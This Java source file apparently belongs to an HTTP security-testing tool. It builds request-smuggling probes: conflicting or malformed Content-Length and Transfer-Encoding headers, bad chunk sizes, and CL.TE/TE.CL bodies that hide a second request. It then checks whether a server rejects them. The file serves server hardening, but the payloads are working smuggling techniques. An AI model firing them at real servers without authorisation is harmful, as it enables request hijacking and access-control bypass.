package dev.portcullis.drill;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

/** Heads by which two readers in a row would see requests end in different places. */
final class HeadTricks implements Tricks {

    private static final String CHUNKED = "Transfer-Encoding: chunked";
    private static final String NO_CHUNK = "0\r\n\r\n";
    private static final Map<String, Change> HEADS = new LinkedHashMap<>();

    static {
        HEADS.put(
                "two-lengths",
                good -> good.line("Content-Length: 0").line("Content-Length: 5").bytes("portc"));
        HEADS.put("list-of-lengths", good -> good.line("Content-Length: 0, 5").bytes("portc"));
        HEADS.put("signed-length", good -> good.line("Content-Length: +5").bytes("portc"));
        HEADS.put("negative-length", good -> good.line("Content-Length: -1"));
        HEADS.put("hexadecimal-length", good -> good.line("Content-Length: 0x5").bytes("portc"));
        HEADS.put("huge-length", good -> good.line("Content-Length: 99999999999999999999"));
        HEADS.put("blank-before-colon", good -> good.line("Content-Length : 5").bytes("portc"));
        HEADS.put(
                "unknown-coding",
                good -> good.line("Transfer-Encoding: xchunked").bytes(NO_CHUNK));
        HEADS.put(
                "chunked-not-last",
                good -> good.line("Transfer-Encoding: chunked, identity").bytes(NO_CHUNK));
        HEADS.put(
                "control-in-coding",
                good -> good.line("Transfer-Encoding: \u000bchunked").bytes(NO_CHUNK));
        HEADS.put("two-hosts", good -> good.line("Host: portcullis-attack.example"));
        HEADS.put("no-host", good -> good.without("Host"));
        HEADS.put("field-without-name", good -> good.line(": portcullis"));
        HEADS.put("blank-in-name", good -> good.line("X Portcullis: 1"));
        HEADS.put("null-in-value", good -> good.line("X-Portcullis: a\u0000b"));
        HEADS.put("return-in-value", good -> good.line("X-Portcullis: a\rContent-Length: 5"));
        HEADS.put("folded-first-line", good -> good.first(" X-Portcullis: 1"));
    }

    /** Bodies that end elsewhere for readers who are less strict; another request stands behind each. */
    private static final Map<String, String> CHUNKS = new LinkedHashMap<>();

    static {
        CHUNKS.put("chunk-size-negative", "-1\r\n\r\n0\r\n\r\n");
        CHUNKS.put("chunk-size-prefixed", "0x5\r\nportc\r\n0\r\n\r\n");
        CHUNKS.put("chunk-size-huge", "ffffffffffffffff0\r\n\r\n0\r\n\r\n");
        CHUNKS.put("chunk-size-wrong", "3\r\nportc\r\n0\r\n\r\n");
        CHUNKS.put("chunk-size-signed", "+5\r\nportc\r\n0\r\n\r\n");
        CHUNKS.put("chunk-size-absent", ";a=b\r\n\r\n0\r\n\r\n");
    }

    private interface Change {
        Draft of(Draft good);
    }

    /** It is right to deny, or to answer once and hang up: what stands behind the request must not be taken for another. */
    private static final Proof ONE_ANSWER = Proof.unless(
            "two requests were seen, or the connection went on",
            (attack, harmless) -> attack.responses() > 1 || attack.isSuccess() && !attack.closed());

    @Override
    public String kind() {
        return "smuggling";
    }

    @Override
    public String about() {
        return "Heads by which two readers in a row would see requests end in different places";
    }

    @Override
    public List<String> ids() {
        var ids = new ArrayList<>(HEADS.keySet());
        ids.addAll(CHUNKS.keySet());
        ids.addAll(List.of("length-and-chunks", "chunks-and-length"));
        return ids;
    }

    @Override
    public List<Shot> against(Scene scene) {
        var aim = scene.aim();
        if (!aim.body().isEmpty()) {
            return List.of();
        }
        var good = scene.good();
        var shots = new ArrayList<Shot>();
        HEADS.forEach(
                (id, change) -> shots.add(new Shot(id, "head", change.of(good), good, Proof.UNLIKE_THE_HARMLESS)));
        var inner = "GET " + scene.target().root() + aim.target() + " HTTP/1.1\r\nHost: "
                + scene.target().authority() + "\r\n\r\n";
        CHUNKS.forEach((id, chunks) -> {
            var attack = good.lingering().line(CHUNKED).bytes(chunks + inner);
            shots.add(new Shot(id, "body", attack, good, ONE_ANSWER));
        });
        var body = NO_CHUNK + inner;
        var length = "Content-Length: " + body.length();
        var open = good.lingering();
        shots.add(new Shot(
                "length-and-chunks", "head", open.line(length).line(CHUNKED).bytes(body), good, ONE_ANSWER));
        shots.add(new Shot(
                "chunks-and-length", "head", open.line(CHUNKED).line(length).bytes(body), good, ONE_ANSWER));
        return shots;
    }
}
